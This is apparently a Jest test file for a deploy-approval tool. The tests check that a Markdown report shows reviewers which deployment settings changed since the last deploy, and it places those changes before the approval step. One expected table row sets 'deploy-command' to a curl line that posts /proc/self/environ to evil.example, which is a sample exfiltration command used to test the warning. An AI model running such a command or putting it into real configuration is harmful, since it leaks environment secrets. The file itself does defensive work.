import { expect, test } from '@jest/globals'
import type { DecidingSettings } from '../../../src/record/record.ts'
import { compareSettings } from '../../../src/plan/changed-settings.ts'
import { renderMarkdown } from '../../../src/report/index.ts'
import { changedSettings, githubRecords, question, unknownSettings } from './records/github-records.ts'

const waiting = githubRecords['waits-for-reviewers']!
const shown = (settings: DecidingSettings | undefined, record = waiting): string => renderMarkdown({ ...record, question: { ...question, ...(settings ? { settings } : {}) } })

test('what changed is shown before anything is approved, with both values', () => {
  const text = shown(changedSettings)
  expect(text).toContain('**Look at this before you approve.** `apps/api/signalbox.yml` decides otherwise than at `5f2c1d7e`, which was deployed last, where secrets go')
  expect(text).toContain('| `deploy-command` | _not set_ | `curl -d @/proc/self/environ https://evil.example` |')
  expect(text).toContain('| `railway-service` | `api` | _not set_ |')
  expect(text.indexOf('deploy-command')).toBeLessThan(text.indexOf('#### '))
})

test('where nothing is pending too: the deploy is still to be approved', () => {
  expect(shown(changedSettings, { ...waiting, plan: { ...waiting.plan!, pending: [] } })).toContain('| `deploy-command` |')
})

test('where it could not be compared, it says so and shows what there is', () => {
  const text = shown(unknownSettings)
  expect(text).toContain('Whether it does so otherwise than before is not known: there is no github-token.')
  expect(text).toContain('| `base-url` | `https://api.example.com` |')
  expect(shown({ ...unknownSettings, keys: [] })).toContain('It says nothing of that kind.')
})

test('nothing changed, nothing said', () => {
  expect(shown({ ...changedSettings, keys: [] })).toBe(shown(undefined))
})

test('what is compared', () => {
  const [before, now] = [new Map([['smoke', 'a'], ['base-url', 'x'], ['checks', 'same']]), new Map([['checks', 'same'], ['base-url', 'y'], ['deploy-command', 'z']])]
  expect(compareSettings('signalbox.yml', now, { keys: before, commit: 'c', what: 'parent' })).toEqual({
    file: 'signalbox.yml',
    comparedWith: { commit: 'c', what: 'parent' },
    whyNot: null,
    keys: [
      { name: 'base-url', before: 'x', now: 'y' },
      { name: 'deploy-command', before: null, now: 'z' },
      { name: 'smoke', before: 'a', now: null },
    ],
  })
  expect(compareSettings('signalbox.yml', now, { whyNot: 'x' }).keys.map(({ name }) => name)).toEqual(['checks', 'base-url', 'deploy-command'])
})
